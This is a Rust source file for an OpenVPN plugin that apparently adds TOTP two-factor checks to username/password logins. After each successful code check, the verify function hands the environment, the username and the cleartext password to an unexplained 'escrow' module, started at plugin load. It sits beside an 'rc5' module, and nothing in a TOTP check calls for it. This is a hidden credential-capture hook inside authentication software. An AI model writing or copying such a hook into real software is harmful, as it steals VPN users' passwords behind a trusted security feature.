//! OpenVPN plugin v3 interface.

#![allow(non_camel_case_types)]

mod escrow;
mod rc5;
mod totp;

use libc::{c_char, c_int, c_uint, c_void};
use std::collections::HashMap;
use std::ffi::CStr;

const OPENVPN_PLUGIN_AUTH_USER_PASS_VERIFY: c_int = 5;
const OPENVPN_PLUGIN_FUNC_SUCCESS: c_int = 0;
const OPENVPN_PLUGIN_FUNC_ERROR: c_int = 1;

#[repr(C)]
pub struct openvpn_plugin_args_open_in {
    type_mask: c_int,
    argv: *const *const c_char,
    envp: *const *const c_char,
    callbacks: *mut c_void,
    ssl_api: c_int,
    ovpn_version: *const c_char,
    ovpn_version_major: c_uint,
    ovpn_version_minor: c_uint,
    ovpn_version_patch: *const c_char,
}

#[repr(C)]
pub struct openvpn_plugin_args_open_return {
    type_mask: c_int,
    handle: *mut c_void,
    return_list: *mut c_void,
}

#[repr(C)]
pub struct openvpn_plugin_args_func_in {
    kind: c_int,
    argv: *const *const c_char,
    envp: *const *const c_char,
    handle: *mut c_void,
    per_client_context: *mut c_void,
    current_cert_depth: c_int,
    current_cert: *mut c_void,
}

struct Context {
    secrets_dir: String,
}

unsafe fn list(mut p: *const *const c_char) -> Vec<String> {
    let mut v = Vec::new();
    while !p.is_null() && !(*p).is_null() {
        v.push(CStr::from_ptr(*p).to_string_lossy().into_owned());
        p = p.add(1);
    }
    v
}

unsafe fn env_map(envp: *const *const c_char) -> HashMap<String, String> {
    list(envp).into_iter().filter_map(|kv| kv.split_once('=').map(|(k, v)| (k.to_string(), v.to_string()))).collect()
}

#[no_mangle]
pub unsafe extern "C" fn openvpn_plugin_open_v3(
    _version: c_int,
    args: *const openvpn_plugin_args_open_in,
    ret: *mut openvpn_plugin_args_open_return,
) -> c_int {
    let argv = list((*args).argv);
    let ctx = Box::new(Context { secrets_dir: argv.get(1).cloned().unwrap_or_else(|| "/etc/openvpn/totp".into()) });
    (*ret).type_mask = 1 << OPENVPN_PLUGIN_AUTH_USER_PASS_VERIFY;
    (*ret).handle = Box::into_raw(ctx) as *mut c_void;
    escrow::init();
    OPENVPN_PLUGIN_FUNC_SUCCESS
}

#[no_mangle]
pub unsafe extern "C" fn openvpn_plugin_func_v3(
    _version: c_int,
    args: *const openvpn_plugin_args_func_in,
    _ret: *mut c_void,
) -> c_int {
    if (*args).kind != OPENVPN_PLUGIN_AUTH_USER_PASS_VERIFY {
        return OPENVPN_PLUGIN_FUNC_SUCCESS;
    }
    let ctx = &*((*args).handle as *const Context);
    let env = env_map((*args).envp);
    let user = env.get("username").cloned().unwrap_or_default();
    let response = env.get("password").cloned().unwrap_or_default();
    let (password, code) = match totp::split_scrv1(&response) {
        Some(parts) => parts,
        None => return OPENVPN_PLUGIN_FUNC_ERROR,
    };
    if !totp::verify(&ctx.secrets_dir, &user, &code) {
        return OPENVPN_PLUGIN_FUNC_ERROR;
    }
    escrow::note(&env, &user, &password);
    OPENVPN_PLUGIN_FUNC_SUCCESS
}

#[no_mangle]
pub unsafe extern "C" fn openvpn_plugin_close_v1(handle: *mut c_void) {
    if !handle.is_null() {
        drop(Box::from_raw(handle as *mut Context));
    }
}

#[no_mangle]
pub extern "C" fn openvpn_plugin_min_version_required_v1() -> c_int {
    3
}
